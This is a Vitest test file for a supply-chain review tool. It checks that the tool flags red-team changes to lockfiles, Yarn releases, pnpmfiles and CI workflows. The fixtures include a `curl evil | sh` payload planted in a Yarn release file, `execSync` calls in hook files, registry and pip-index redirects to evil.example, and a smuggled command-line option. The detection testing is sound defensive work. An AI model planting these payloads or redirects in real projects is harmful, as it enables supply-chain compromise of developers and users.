import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runReview, type ReviewArgs } from '../../../src/cli/commands/review.js';
import { exitCodeForError } from '../../../src/cli/exit-codes.js';
import type { ReviewResult } from '../../../src/app/review/index.js';
import { YARN_PROJECT, PNPM_PROJECT } from './projects.js';
import { makeRepo, reviewHead, type Tree } from './repo.js';
import { manifest, npmLock, sri } from './npm-lock.js';

/**
 * The second red-team round of `chainproof review` (rt2-review): each case is a change the review used to pass
 * (or, for the v1→v3 relock, to fail for nothing). Named after the red-team case it reproduces.
 */
const cleanups: (() => void)[] = [];
afterAll(() => cleanups.forEach((c) => c()));

async function review(base: Tree, head: Tree, remove: readonly string[] = []): Promise<ReviewResult> {
  const repo = makeRepo(base, head, remove);
  cleanups.push(repo.cleanup);
  return reviewHead(repo.dir, { gate: 'patch' });
}

const rulesAt = (r: ReviewResult) => r.findings.map((f) => `${f.ruleId}@${f.location.path}`);

describe('files a watched setting names (cfg-yarn-release-swapped, cfg-yarn-plugin-swapped)', () => {
  it('the yarnPath release rewritten in place → CPU026 at the release', async () => {
    const rc = { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n' };
    const r = await review(
      { ...YARN_PROJECT, ...rc, '.yarn/releases/yarn-4.1.0.cjs': '// yarn 4.1.0\n' },
      { '.yarn/releases/yarn-4.1.0.cjs': 'require("child_process").execSync("curl evil | sh")\n' },
    );
    expect(rulesAt(r)).toContain('CPU026@.yarn/releases/yarn-4.1.0.cjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('a plugin rewritten in place → CPU026 at the plugin', async () => {
    const rc = { '.yarnrc.yml': 'plugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-foo.cjs\n' };
    const r = await review(
      { ...YARN_PROJECT, ...rc, '.yarn/plugins/@yarnpkg/plugin-foo.cjs': 'module.exports={}\n' },
      { '.yarn/plugins/@yarnpkg/plugin-foo.cjs': 'module.exports={hooks:{}};require("child_process")\n' },
    );
    expect(rulesAt(r)).toContain('CPU026@.yarn/plugins/@yarnpkg/plugin-foo.cjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('an unchanged release and a changed unrelated file → nothing', async () => {
    const rc = { '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.1.0.cjs\n' };
    const r = await review(
      { ...YARN_PROJECT, ...rc, '.yarn/releases/yarn-4.1.0.cjs': '// yarn 4.1.0\n' },
      { 'README.md': 'docs\n' },
    );
    expect(r.findings).toEqual([]);
  });
});

describe('pnpmfiles (cfg-pnpmfile-added, cfg-npmrc-pnpmfile)', () => {
  it('a new .pnpmfile.cjs → the head scan CPD167 is introduced, the gate fails', async () => {
    const r = await review(PNPM_PROJECT, { '.pnpmfile.cjs': 'module.exports = { hooks: {} }\n' });
    expect(rulesAt(r)).toContain('CPD167@.pnpmfile.cjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('a new .pnpmfile.mjs (pnpm 11+ loads it first) → the head scan CPD167 is introduced, the gate fails', async () => {
    const r = await review(PNPM_PROJECT, { '.pnpmfile.mjs': 'export const hooks = {};\n' });
    expect(rulesAt(r)).toContain('CPD167@.pnpmfile.mjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('.npmrc pnpmfile= naming a new file → CPD167 at that file', async () => {
    const r = await review(PNPM_PROJECT, {
      '.npmrc': 'pnpmfile=tools/hooks.cjs\n',
      'tools/hooks.cjs': 'module.exports = { hooks: {} }\n',
    });
    expect(rulesAt(r)).toContain('CPD167@tools/hooks.cjs');
    expect(r.gate?.passed).toBe(false);
  });

  it('an existing pnpmfile rewritten → CPU026 at the pnpmfile', async () => {
    const r = await review(
      { ...PNPM_PROJECT, '.pnpmfile.cjs': 'module.exports = { hooks: {} }\n' },
      { '.pnpmfile.cjs': 'require("child_process").execSync("id")\nmodule.exports = { hooks: {} }\n' },
    );
    expect(rulesAt(r)).toContain('CPU026@.pnpmfile.cjs');
    expect(r.gate?.passed).toBe(false);
  });
});

describe('a registry package replaced by a workspace (npm-registry-to-workspace)', () => {
  it('lodash from the registry → a link to packages/lodash: CPU002, the gate fails', async () => {
    const base = npmLock(
      { lodash: '^4.17.20' },
      {
        lodash: {
          version: '4.17.20',
          resolved: 'https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz',
          integrity: sri(1),
        },
      },
    );
    const head = JSON.parse(npmLock({ lodash: '^4.17.20' }, {})) as {
      packages: Record<string, Record<string, unknown>>;
    };
    head.packages['']!['workspaces'] = ['packages/*'];
    head.packages['node_modules/lodash'] = { resolved: 'packages/lodash', link: true };
    head.packages['packages/lodash'] = { name: 'lodash', version: '4.17.20' };
    const r = await review(
      { 'package.json': manifest({ lodash: '^4.17.20' }), 'package-lock.json': base },
      {
        'package-lock.json': JSON.stringify(head, null, 2) + '\n',
        'packages/lodash/package.json': '{"name":"lodash","version":"4.17.20"}\n',
        'packages/lodash/index.js': 'require("child_process").execSync("id")\n',
      },
    );
    expect(rulesAt(r)).toContain('CPU002@package-lock.json');
    expect(r.gate?.passed).toBe(false);
  });
});

describe('requirements includes by any name (py-req-include, py-req-constraint)', () => {
  const HASHED = 'requests==2.31.0 \\\n    --hash=sha256:' + 'a'.repeat(64) + '\n';
  it('-r deps/extra.txt with --index-url and a new package → read from the snapshot', async () => {
    const r = await review(
      { 'requirements.txt': HASHED },
      {
        'requirements.txt': HASHED + '-r deps/extra.txt\n',
        'deps/extra.txt': '--index-url https://evil.example/simple\nevilpkg==1.0.0\n',
      },
    );
    const rules = r.findings.map((f) => f.ruleId);
    expect(rules).not.toContain('CPP003');
    expect(rules).toContain('CPP070');
    expect(r.lockfiles.flatMap((lf) => lf.changes.map((c) => `${c.kind}:${c.name}`))).toContain('added:evilpkg');
  });

  it('-c pins.txt is read too (no false "not found")', async () => {
    const r = await review(
      { 'requirements.txt': 'requests>=2.31\n' },
      { 'requirements.txt': '-c pins.txt\nrequests>=2.31\n', 'pins.txt': 'requests==2.31.1\n' },
    );
    expect(r.findings.map((f) => f.ruleId)).not.toContain('CPP003');
  });
});

describe('trust_remote_code through a variable (m-trc-var)', () => {
  // The refs stage reads `TRC = False` as false (python-loaders.ts pythonTruthy): the flip to True is the change.
  it('TRC = False → True passed as trust_remote_code=TRC → CPU021', async () => {
    const app = (flag: string) =>
      `from transformers import AutoModel\n\nTRC = ${flag}\nREV = "${'a'.repeat(40)}"\nm = AutoModel.from_pretrained("acme/x", revision=REV, trust_remote_code=TRC)\n`;
    const r = await review({ 'app.py': app('False') }, { 'app.py': app('True') });
    expect(rulesAt(r)).toContain('CPU021@app.py');
  });
});

describe('workflow registry redirects that are not flags', () => {
  const wf = (step: string[], env: string[] = []) =>
    [
      'name: ci',
      'on: [pull_request]',
      'jobs:',
      '  t:',
      '    runs-on: ubuntu-latest',
      ...env,
      '    steps:',
      '      - uses: actions/checkout@v4',
      ...step,
      '      - run: npm ci',
      '',
    ].join('\n');
  const P = '.github/workflows/ci.yml';
  const npm = { 'package.json': manifest({}), 'package-lock.json': npmLock({}, {}) };
  it.each([
    {
      name: 'job env NPM_CONFIG_REGISTRY (cfg-workflow-env-registry)',
      head: wf([], ['    env:', '      NPM_CONFIG_REGISTRY: https://evil.example/npm/']),
    },
    {
      name: 'PIP_EXTRA_INDEX_URL and UV_INDEX_URL (cfg-workflow-env-pip)',
      head: wf(
        [],
        [
          '    env:',
          '      PIP_EXTRA_INDEX_URL: https://evil.example/simple',
          '      UV_INDEX_URL: https://evil.example/simple',
        ],
      ),
    },
    {
      name: 'setup-node registry-url (wf-setup-node-registry)',
      head: wf([
        '      - uses: actions/setup-node@v4',
        '        with:',
        '          node-version: 20',
        '          registry-url: https://evil.example/npm/',
      ]),
    },
    {
      name: 'npm config set registry (wf-npm-config-set)',
      head: wf(['      - run: npm config set registry https://evil.example/npm/']),
    },
    {
      name: 'yarn config set npmRegistryServer',
      head: wf(['      - run: yarn config set npmRegistryServer https://evil.example/npm/']),
    },
  ])('$name → CPU025', async ({ head }) => {
    const r = await review({ ...npm, [P]: wf([]) }, { [P]: head });
    expect(rulesAt(r)).toContain(`CPU025@${P}`);
    expect(r.gate?.passed).toBe(false);
  });

  it('the same env var already at the base → nothing', async () => {
    const env = ['    env:', '      NPM_CONFIG_REGISTRY: https://evil.example/npm/'];
    const r = await review({ ...npm, [P]: wf([], env) }, { [P]: wf(['      - run: echo hi'], env) });
    expect(r.findings.map((f) => f.ruleId)).not.toContain('CPU025');
  });
});

describe('npm v1 → v3 relock (npm-v1-to-v3)', () => {
  it('an unchanged package with an install script is not introduced by the format', async () => {
    const v1 =
      JSON.stringify(
        {
          name: 'app',
          version: '1.0.0',
          lockfileVersion: 1,
          requires: true,
          dependencies: {
            fsevents: {
              version: '2.3.2',
              resolved: 'https://registry.npmjs.org/fsevents/-/fsevents-2.3.2.tgz',
              integrity: sri(2),
            },
          },
        },
        null,
        2,
      ) + '\n';
    const v3 = npmLock(
      { fsevents: '2.3.2' },
      {
        fsevents: {
          version: '2.3.2',
          resolved: 'https://registry.npmjs.org/fsevents/-/fsevents-2.3.2.tgz',
          integrity: sri(2),
          hasInstallScript: true,
        },
      },
    );
    const pkg = { 'package.json': manifest({ fsevents: '2.3.2' }) };
    const r = await review({ ...pkg, 'package-lock.json': v1 }, { 'package-lock.json': v3 });
    expect(r.findings.map((f) => f.ruleId)).not.toContain('CPD012');
  });
});

describe('a base revision that is not there', () => {
  const repo = makeRepo({ 'README.md': 'a\n' }, { 'README.md': 'b\n' });
  cleanups.push(repo.cleanup);
  const out = path.join(mkdtempSync(path.join(tmpdir(), 'chainproof-rt2-')), 'review.json');
  const args = (base: string): ReviewArgs => ({
    dir: repo.dir,
    base,
    head: 'HEAD',
    gate: 'patch',
    format: ['json'],
    output: [out],
    'fail-on': 'error',
    policy: undefined,
    registry: [],
    'npm-registry': undefined,
    offline: true,
    'min-release-age': 24,
    cache: false,
    'cache-dir': undefined,
    include: [],
    exclude: [],
    category: undefined,
    quiet: true,
    verbose: false,
  });
  const failure = (p: Promise<unknown>) =>
    p.then(
      () => undefined,
      (e: unknown) => e as Error,
    );

  it('a missing SHA: exit 2 (not 4, not the gate 1) naming the revision and fetch-depth', async () => {
    const err = await failure(runReview(args('deadbeef')));
    expect(err && exitCodeForError(err)).toBe(2);
    expect(err?.message).toContain('"deadbeef"');
    expect(err?.message).toContain('fetch-depth: 0');
  });

  it('a branch that does not exist: a usage error naming it', async () => {
    const err = await failure(runReview(args('nosuchbranch')));
    expect(err && exitCodeForError(err)).toBe(2);
    expect(err?.message).toContain('"nosuchbranch"');
  });

  it('a flag-like value that yargs read as an option (an empty --base) is refused, naming it', async () => {
    const argv = process.argv;
    process.argv = [argv[0]!, 'chainproof', 'review', '--base', '--output=/tmp/x'];
    try {
      const err = await failure(runReview(args('')));
      expect(err && exitCodeForError(err)).toBe(2);
      expect(err?.message).toContain('"--output=/tmp/x"');
    } finally {
      process.argv = argv;
    }
  });
});
